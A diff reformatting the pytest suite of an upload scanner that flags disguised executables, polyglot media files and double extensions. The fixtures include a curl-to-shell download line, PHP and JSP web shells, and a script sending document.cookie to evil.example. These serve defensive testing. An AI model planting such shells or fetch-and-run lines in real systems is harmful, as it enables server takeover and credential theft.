@@ -57,72 +57,157 @@ def _pe():
 # against libmagic below when `file` is installed.
 HEADERS = [
     # name, type, libmagic MIME, bytes
-    ("mp4", "mp4", "video/mp4",  # ffmpeg (Lavf) output: gradio/media_assets/videos/a.mp4
-     h("00000020 66747970 69736f6d 00000200 69736f6d 69736f32 61766331 6d703431 00000008 66726565"
-       "0001dacd 6d646174")),
-    ("m4a", "m4a", "audio/x-m4a",  # iTunes AAC
-     h("00000020 66747970 4d344120 00000000 4d344120 6d703432 69736f6d 00000000 00000008 66726565")),
-    ("mov", "mov", "video/quicktime",  # QuickTime / iPhone
-     h("00000014 66747970 71742020 20050300 71742020 00000008 77696465 0001dacd 6d646174")),
+    (
+        "mp4",
+        "mp4",
+        "video/mp4",  # ffmpeg (Lavf) output: gradio/media_assets/videos/a.mp4
+        h("00000020 66747970 69736f6d 00000200 69736f6d 69736f32 61766331 6d703431 00000008 667265650001dacd 6d646174"),
+    ),
+    (
+        "m4a",
+        "m4a",
+        "audio/x-m4a",  # iTunes AAC
+        h("00000020 66747970 4d344120 00000000 4d344120 6d703432 69736f6d 00000000 00000008 66726565"),
+    ),
+    (
+        "mov",
+        "mov",
+        "video/quicktime",  # QuickTime / iPhone
+        h("00000014 66747970 71742020 20050300 71742020 00000008 77696465 0001dacd 6d646174"),
+    ),
     ("wav", "wav", "audio/x-wav", _wav()),  # Python's wave module
-    ("wav", "wav", "audio/x-wav",  # gradio/media_assets/audio/audio_sample.wav
-     h("52494646 003f0000 57415645 666d7420 10000000 01000100 401f0000 803e0000 02001000 64617461"
-       "dc3e0000 8eff0fff")),
+    (
+        "wav",
+        "wav",
+        "audio/x-wav",  # gradio/media_assets/audio/audio_sample.wav
+        h("52494646 003f0000 57415645 666d7420 10000000 01000100 401f0000 803e0000 02001000 64617461dc3e0000 8eff0fff"),
+    ),
     # ID3v2.3 tag of gradio/media_assets/audio/cate_blanch.mp3; libmagic needs the
     # audio frame behind the 4 KiB tag to say audio/mpeg.
-    ("mp3", "mp3", None,
-     h("49443303 00000000 201e5445 4e430000 00140000 004d6f76 6965736f 756e6463 6c697073 2e6e6574"
-       "00000000 00000000")),
-    ("mp3", "mp3", "audio/mpeg",  # ID3v2.4 by Lavf, then a LAME frame
-     h("49443304 00000000 00165453 53450000 000c0000 034c6176 6635332e 352e3000 fff380c4 00000003"
-       "48000000 004c414d")),
-    ("mp3", "mp3", "audio/mpeg",  # no tag: MPEG-1 layer III frames, 128 kbit/s, 44.1 kHz, 417 bytes each
-     (h("fffb9064") + b"\0" * 413) * 3),
-    ("flac", "flac", "audio/flac",  # libFLAC STREAMINFO
-     h("664c6143 00000022 10001000 00000e00 1c3c0ac4 42f00000 0000d5c9 f1e0b2e4 3a5f1b37 9da6b5f3"
-       "ac108400 0028200d")),
-    ("ogg", "ogg", "audio/ogg",  # Ogg Vorbis first page
-     h("4f676753 00020000 00000000 00004c8b 36380000 00006cb6 d2a6011e 01766f72 62697300 00000001"
-       "44ac0000 00000000 80380100 00000000 b801")),
-    ("webm", "webm", "video/webm",  # ffmpeg EBML header, DocType webm
-     h("1a45dfa3 9f428681 0142f781 0142f281 0442f381 08428284 7765626d 42878102 42858102 18538067")),
-    ("mkv", "mkv", "video/x-matroska",  # mkvmerge EBML header, DocType matroska
-     h("1a45dfa3 a3428681 0142f781 0142f281 0442f381 08428288 6d617472 6f736b61 42878104 42858102")),
-    ("png", "png", "image/png",  # gradio/media_assets/images/avatar.png
-     h("89504e47 0d0a1a0a 0000000d 49484452 00000042 00000039 08060000 0082b1fd ea000000 0467414d"
-       "410000b1 8f0bfc61")),
-    ("jpg", "jpeg", "image/jpeg",  # JFIF with Exif: gradio/media_assets/images/cheetah.jpg
-     h("ffd8ffe0 00104a46 49460001 0101012c 012c0000 ffe1005a 45786966 00004949 2a000800 00000100"
-       "0e010200 38000000")),
-    ("gif", "gif", "image/gif",  # GIF89a: gradio/media_assets/images/screenshot.gif
-     h("47494638 39618808 000570ff 0021ff0b 4e455453 43415045 322e3003 01000000 21f90400 2a00ff00"
-       "2c000000 00880800")),
-    ("webp", "webp", "image/webp",  # CPython test data python.webp (VP8X)
-     h("52494646 a8010000 57454250 56503858 0a000000 10000000 0f00000f 0000414c 5048c300 00000127"
-       "a2a89124 e57ae718")),
-    ("bmp", "bmp", "image/bmp",  # CPython test data python.bmp (BITMAPV5HEADER)
-     h("424d8a04 00000000 00008a00 00007c00 00001000 00001000 00000100 20000300 00000004 00000000")),
-    ("tif", "tiff", "image/tiff",  # CPython test data python.tiff (little-endian)
-     h("49492a00 08040000 00000000 00000000 00000000 00004e8d c0af4a86 baed4883 b4ff447e adff4078")),
-    ("tif", "tiff", "image/tiff",  # big-endian TIFF
-     h("4d4d002a 00000008 00110100 00030000 00010010 00000101 00030000 00010010 0000")),
-    ("pdf", "pdf", "application/pdf",  # pdfTeX: libtasn1.pdf
-     h("25504446 2d312e35 0a25d0d4 c5d80a31 2030206f 626a0a3c 3c0a2f4c 656e6774 68203538 37202020")),
+    (
+        "mp3",
+        "mp3",
+        None,
+        h("49443303 00000000 201e5445 4e430000 00140000 004d6f76 6965736f 756e6463 6c697073 2e6e657400000000 00000000"),
+    ),
+    (
+        "mp3",
+        "mp3",
+        "audio/mpeg",  # ID3v2.4 by Lavf, then a LAME frame
+        h("49443304 00000000 00165453 53450000 000c0000 034c6176 6635332e 352e3000 fff380c4 0000000348000000 004c414d"),
+    ),
+    (
+        "mp3",
+        "mp3",
+        "audio/mpeg",  # no tag: MPEG-1 layer III frames, 128 kbit/s, 44.1 kHz, 417 bytes each
+        (h("fffb9064") + b"\0" * 413) * 3,
+    ),
+    (
+        "flac",
+        "flac",
+        "audio/flac",  # libFLAC STREAMINFO
+        h("664c6143 00000022 10001000 00000e00 1c3c0ac4 42f00000 0000d5c9 f1e0b2e4 3a5f1b37 9da6b5f3ac108400 0028200d"),
+    ),
+    (
+        "ogg",
+        "ogg",
+        "audio/ogg",  # Ogg Vorbis first page
+        h(
+            "4f676753 00020000 00000000 00004c8b 36380000 00006cb6 d2a6011e 01766f72 62697300 00000001"
+            "44ac0000 00000000 80380100 00000000 b801"
+        ),
+    ),
+    (
+        "webm",
+        "webm",
+        "video/webm",  # ffmpeg EBML header, DocType webm
+        h("1a45dfa3 9f428681 0142f781 0142f281 0442f381 08428284 7765626d 42878102 42858102 18538067"),
+    ),
+    (
+        "mkv",
+        "mkv",
+        "video/x-matroska",  # mkvmerge EBML header, DocType matroska
+        h("1a45dfa3 a3428681 0142f781 0142f281 0442f381 08428288 6d617472 6f736b61 42878104 42858102"),
+    ),
+    (
+        "png",
+        "png",
+        "image/png",  # gradio/media_assets/images/avatar.png
+        h("89504e47 0d0a1a0a 0000000d 49484452 00000042 00000039 08060000 0082b1fd ea000000 0467414d410000b1 8f0bfc61"),
+    ),
+    (
+        "jpg",
+        "jpeg",
+        "image/jpeg",  # JFIF with Exif: gradio/media_assets/images/cheetah.jpg
+        h("ffd8ffe0 00104a46 49460001 0101012c 012c0000 ffe1005a 45786966 00004949 2a000800 000001000e010200 38000000"),
+    ),
+    (
+        "gif",
+        "gif",
+        "image/gif",  # GIF89a: gradio/media_assets/images/screenshot.gif
+        h("47494638 39618808 000570ff 0021ff0b 4e455453 43415045 322e3003 01000000 21f90400 2a00ff002c000000 00880800"),
+    ),
+    (
+        "webp",
+        "webp",
+        "image/webp",  # CPython test data python.webp (VP8X)
+        h("52494646 a8010000 57454250 56503858 0a000000 10000000 0f00000f 0000414c 5048c300 00000127a2a89124 e57ae718"),
+    ),
+    (
+        "bmp",
+        "bmp",
+        "image/bmp",  # CPython test data python.bmp (BITMAPV5HEADER)
+        h("424d8a04 00000000 00008a00 00007c00 00001000 00001000 00000100 20000300 00000004 00000000"),
+    ),
+    (
+        "tif",
+        "tiff",
+        "image/tiff",  # CPython test data python.tiff (little-endian)
+        h("49492a00 08040000 00000000 00000000 00000000 00004e8d c0af4a86 baed4883 b4ff447e adff4078"),
+    ),
+    (
+        "tif",
+        "tiff",
+        "image/tiff",  # big-endian TIFF
+        h("4d4d002a 00000008 00110100 00030000 00010010 00000101 00030000 00010010 0000"),
+    ),
+    (
+        "pdf",
+        "pdf",
+        "application/pdf",  # pdfTeX: libtasn1.pdf
+        h("25504446 2d312e35 0a25d0d4 c5d80a31 2030206f 626a0a3c 3c0a2f4c 656e6774 68203538 37202020"),
+    ),
     ("zip", "zip", "application/zip", _zip()),  # Python's zipfile
     # Executable and script content.
     # Debian's /bin/true; libmagic says x-pie-executable for the whole file, it
     # needs the dynamic section to tell a PIE from a shared library.
-    ("bin", "elf", "application/x-sharedlib",
-     h("7f454c46 02010100 00000000 00000000 03003e00 01000000 d0230000 00000000 40000000 00000000")),
+    (
+        "bin",
+        "elf",
+        "application/x-sharedlib",
+        h("7f454c46 02010100 00000000 00000000 03003e00 01000000 d0230000 00000000 40000000 00000000"),
+    ),
     ("exe", "pe", "application/vnd.microsoft.portable-executable", _pe()),
-    ("bin", "macho", "application/x-mach-binary",  # 64-bit x86_64 executable
-     h("cffaedfe 07000001 03000000 02000000 10000000 58050000 85002000 00000000")),
+    (
+        "bin",
+        "macho",
+        "application/x-mach-binary",  # 64-bit x86_64 executable
+        h("cffaedfe 07000001 03000000 02000000 10000000 58050000 85002000 00000000"),
+    ),
     ("sh", "script", "text/x-shellscript", b"#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/x | sh\n"),
     ("php", "php", "text/x-php", b"<?php system($_GET['cmd']); ?>\n"),
-    ("html", "html", "text/html",
-     b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"),
-    ("jsp", "server-page", None,
-     b'<%@ page import="java.util.*,java.io.*"%>\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n'),
+    (
+        "html",
+        "html",
+        "text/html",
+        b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n",
+    ),
+    (
+        "jsp",
+        "server-page",
+        None,
+        b'<%@ page import="java.util.*,java.io.*"%>\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
+    ),
     ("aspx", "server-page", None, b'<%@ Page Language="C#" %>\n<% Response.Write("x"); %>\n'),
     ("js", "javascript", None, b"(function () {\n  fetch('/gradio_api/upload');\n})();\n"),
 ]
@@ -179,13 +264,16 @@ def test_disguised_executables(ext, kind, _magic, head, disguise):
 
 
 @pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
-@pytest.mark.parametrize("payload", [
-    b"<?php system($_GET['c']); ?>",
-    b"<?=`$_GET[0]`?>",
-    b"<script>fetch('//evil.example/'+document.cookie)</script>",
-    b'<%@ page import="java.io.*" %>',
-    b"<% eval request(\"x\") %>",
-])
+@pytest.mark.parametrize(
+    "payload",
+    [
+        b"<?php system($_GET['c']); ?>",
+        b"<?=`$_GET[0]`?>",
+        b"<script>fetch('//evil.example/'+document.cookie)</script>",
+        b'<%@ page import="java.io.*" %>',
+        b'<% eval request("x") %>',
+    ],
+)
 def test_polyglots(ext, kind, _magic, head, payload):
     """A valid media header with a script inside the window: the classic GIFAR / PHP-in-EXIF upload."""
     data = head + b"\0" * 100 + payload + b"\0" * 100
@@ -200,11 +288,14 @@ def test_script_beyond_the_window_is_not_seen(ext, kind, _magic, head):
     """The documented limit: only the window is searched."""
     data = head + b"\0" * 200 + b"<?php ?>"
     policy = us.Policy(window=len(head) + 100)
-    assert us.judge(f"upload.{ext}", len(data), data[:policy.window], policy)[0] == us.ALLOWED
+    assert us.judge(f"upload.{ext}", len(data), data[: policy.window], policy)[0] == us.ALLOWED
 
 
-@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")],
-                         ids=ids(MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")]))
+@pytest.mark.parametrize(
+    ("ext", "kind", "_magic", "head"),
+    MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")],
+    ids=ids(MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")]),
+)
 def test_truncated_headers_are_not_taken_for_the_type(ext, kind, _magic, head):
     """Three bytes of a header are never enough to be allowed."""
     verdict, detection, _reason = us.judge(f"upload.{ext}", 3, head[:3], POLICY)
@@ -223,16 +314,19 @@ def test_empty_file():
     assert us.judge("voice.wav", 0, b"", POLICY)[0] == us.EMPTY
 
 
-@pytest.mark.parametrize(("name", "expected"), [
-    ("avatar.php.mp4", us.DOUBLE_EXTENSION),
-    ("shell.PHP.jpg", us.DOUBLE_EXTENSION),
-    ("x.jsp.png", us.DOUBLE_EXTENSION),
-    ("holiday.2025.mp4", us.ALLOWED),
-    ("my.video.mp4", us.ALLOWED),
-    (".hidden.mp4", us.ALLOWED),
-    ("noext", us.ALLOWED),
-    ("clip.MP4", us.ALLOWED),
-])
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("avatar.php.mp4", us.DOUBLE_EXTENSION),
+        ("shell.PHP.jpg", us.DOUBLE_EXTENSION),
+        ("x.jsp.png", us.DOUBLE_EXTENSION),
+        ("holiday.2025.mp4", us.ALLOWED),
+        ("my.video.mp4", us.ALLOWED),
+        (".hidden.mp4", us.ALLOWED),
+        ("noext", us.ALLOWED),
+        ("clip.MP4", us.ALLOWED),
+    ],
+)
 def test_double_extension(name, expected):
     head = HEADERS[0][3]
     verdict, _detection, reason = us.judge(name, 1000, head, POLICY)
@@ -255,20 +349,32 @@ def test_size_limit_and_type_policy():
     assert us.judge("a.mp4", 5, b"\x00\x01\x02\x03\x04", POLICY)[0] == us.TYPE_NOT_ALLOWED
 
 
-@pytest.mark.parametrize(("text", "expected"), [
-    ("200m", 200 * 1024 ** 2), ("512K", 512 * 1024), ("1g", 1024 ** 3), ("1000", 1000), (1000, 1000),
-    ("0", None), ("", None), (None, None),
-])
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("200m", 200 * 1024**2),
+        ("512K", 512 * 1024),
+        ("1g", 1024**3),
+        ("1000", 1000),
+        (1000, 1000),
+        ("0", None),
+        ("", None),
+        (None, None),
+    ],
+)
 def test_parse_size(text, expected):
     assert us.parse_size(text) == expected
 
 
-@pytest.mark.parametrize(("args", "message"), [
-    (dict(allowed_types=["mp4", "exe"]), "unknown type(s) exe"),
-    (dict(allowed_types=["php"]), "php is executable or script content and cannot be allowed"),
-    (dict(action="quarantine"), "needs a quarantine directory"),
-    (dict(window=10), "at least 64 bytes"),
-])
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (dict(allowed_types=["mp4", "exe"]), "unknown type(s) exe"),
+        (dict(allowed_types=["php"]), "php is executable or script content and cannot be allowed"),
+        (dict(action="quarantine"), "needs a quarantine directory"),
+        (dict(window=10), "at least 64 bytes"),
+    ],
+)
 def test_bad_policies(args, message):
     with pytest.raises(us.UploadScanError, match=message.replace("(", r"\(").replace(")", r"\)")):
         us.Policy(**args)
@@ -280,13 +386,19 @@ def test_bad_sizes(text):
         us.parse_size(text)
 
 
-@pytest.mark.parametrize(("head", "clean"), [
-    # Real metadata that must not look like script: XMP packets in JPEG/PNG, PDF dictionaries.
-    (b"\xff\xd8\xff\xe1\x10\x00http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
-     b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF></rdf:RDF></x:xmpmeta><?xpacket end='w'?>", True),
-    (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n", True),
-    (b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", False),
-])
+@pytest.mark.parametrize(
+    ("head", "clean"),
+    [
+        # Real metadata that must not look like script: XMP packets in JPEG/PNG, PDF dictionaries.
+        (
+            b"\xff\xd8\xff\xe1\x10\x00http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
+            b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF></rdf:RDF></x:xmpmeta><?xpacket end='w'?>",
+            True,
+        ),
+        (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n", True),
+        (b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", False),
+    ],
+)
 def test_metadata_is_not_a_marker(head, clean):
     assert (us.sniff(head).marker is None) is clean
 
@@ -299,8 +411,11 @@ def test_random_bytes_never_crash(data):
 
 
 @settings(max_examples=400, deadline=None)
-@given(st.sampled_from([r[3][:8] for r in DANGEROUS_ROWS if us.TYPES[r[1]].family == us.DANGEROUS]),
-       st.binary(max_size=600), st.sampled_from(["a.mp4", "a.png", "a.wav", "a", "a.php.mp4"]))
+@given(
+    st.sampled_from([r[3][:8] for r in DANGEROUS_ROWS if us.TYPES[r[1]].family == us.DANGEROUS]),
+    st.binary(max_size=600),
+    st.sampled_from(["a.mp4", "a.png", "a.wav", "a", "a.php.mp4"]),
+)
 def test_executable_headers_are_never_allowed(prefix, rest, name):
     data = prefix + rest
     verdict, _detection, reason = us.judge(name, len(data), data, EVERYTHING)
@@ -564,16 +679,34 @@ def test_pending_files_wait_for_min_age(tree):
     assert "maybe still being written" in results[0]["reason"]
 
 
-@pytest.mark.parametrize("policy", [
-    us.Policy(), EVERYTHING, us.Policy(allowed_types=("png", "text", "unknown", "svg"), max_size=3000),
-    us.Policy(window=64), us.Policy(min_age=3600),
-], ids=["default", "everything", "small", "window64", "min_age"])
+@pytest.mark.parametrize(
+    "policy",
+    [
+        us.Policy(),
+        EVERYTHING,
+        us.Policy(allowed_types=("png", "text", "unknown", "svg"), max_size=3000),
+        us.Policy(window=64),
+        us.Policy(min_age=3600),
+    ],
+    ids=["default", "everything", "small", "window64", "min_age"],
+)
 def test_walk_agrees_with_judge(tmp_path, policy):
     """The walk's quick test for allowed files never changes a verdict: with list_allowed (judge() for every
     file) and without, the counts are the same, and every file judge() does not allow is in both results."""
     up = tmp_path / "uploads"
-    names = ["a.{ext}", "b.{EXT}", "c.php.{ext}", ".{ext}", "..{ext}", "noext", "d.", "e.txt", "f.{ext}.bak",
-             "g..{ext}", "h.tar.{ext}"]
+    names = [
+        "a.{ext}",
+        "b.{EXT}",
+        "c.php.{ext}",
+        ".{ext}",
+        "..{ext}",
+        "noext",
+        "d.",
+        "e.txt",
+        "f.{ext}.bak",
+        "g..{ext}",
+        "h.tar.{ext}",
+    ]
     index = 0
     for ext, _kind, _magic, head in HEADERS:
         for body in (head, head + b"\0" * 5000, head + b" <?php ?>", head[:3], b"", head + b"\n<svg onload=x>"):
@@ -607,9 +740,22 @@ def test_reads_only_the_window(tree, monkeypatch):
 
 def test_cli_scan_list_release_expire(tree, capsys):
     config = tree / "upload-scan.json"
-    config.write_text(json.dumps({"directories": [dict(
-        path=str(tree / "uploads"), action="quarantine", quarantine_dir=str(tree / "quarantine"),
-        allowed_types=list(us.DEFAULT_ALLOWED), max_size="10m", retention_days=7)]}))
+    config.write_text(
+        json.dumps(
+            {
+                "directories": [
+                    dict(
+                        path=str(tree / "uploads"),
+                        action="quarantine",
+                        quarantine_dir=str(tree / "quarantine"),
+                        allowed_types=list(us.DEFAULT_ALLOWED),
+                        max_size="10m",
+                        retention_days=7,
+                    )
+                ]
+            }
+        )
+    )
     out = io.StringIO()
     assert us.cli(["scan", "--config", str(config), "--dry-run", "--settle", "0"], out=out) == 0
     assert "to quarantine" in out.getvalue() and (tree / "uploads" / "avatar.php.mp4").exists()
@@ -633,14 +779,17 @@ def test_cli_scan_list_release_expire(tree, capsys):
     assert "not a quarantine id" in capsys.readouterr().err
 
 
-@pytest.mark.parametrize(("entry", "message"), [
-    (dict(path="/srv/up", retention_days=7, max_size="200m"), None),
-    (dict(path="relative"), "absolute path"),
-    (dict(path="/srv/up", retention_days=0), "at least 1"),
-    (dict(path="/srv/up", max_size="big"), "not a size nginx understands"),
-    (dict(path="/srv/up", action="quarantine"), "needs a quarantine directory"),
-    (dict(path="/srv/up", allowed_types=["elf"]), "cannot be allowed"),
-])
+@pytest.mark.parametrize(
+    ("entry", "message"),
+    [
+        (dict(path="/srv/up", retention_days=7, max_size="200m"), None),
+        (dict(path="relative"), "absolute path"),
+        (dict(path="/srv/up", retention_days=0), "at least 1"),
+        (dict(path="/srv/up", max_size="big"), "not a size nginx understands"),
+        (dict(path="/srv/up", action="quarantine"), "needs a quarantine directory"),
+        (dict(path="/srv/up", allowed_types=["elf"]), "cannot be allowed"),
+    ],
+)
 def test_cli_check_config(tmp_path, capsys, entry, message):
     config = tmp_path / "c.json"
     config.write_text(json.dumps({"directories": [entry]}))
@@ -706,8 +855,14 @@ def test_expire_refuses_zero_days(tmp_path, days):
 def test_runs_as_a_standalone_command(tree):
     """The host-side command is this very file, run by a bare Python with only the standard library."""
     import sys
+
     script = us.__file__
-    found = subprocess.run([sys.executable, "-I", "-S", script, "scan", "--settle", "0", str(tree / "uploads")],
-                           capture_output=True, text=True, check=True, cwd="/")
+    found = subprocess.run(
+        [sys.executable, "-I", "-S", script, "scan", "--settle", "0", str(tree / "uploads")],
+        capture_output=True,
+        text=True,
+        check=True,
+        cwd="/",
+    )
     assert f"executable: {tree}/uploads/avatar.php.mp4: content is PHP code" in found.stdout
     assert "scanned" in found.stdout and found.stderr == ""
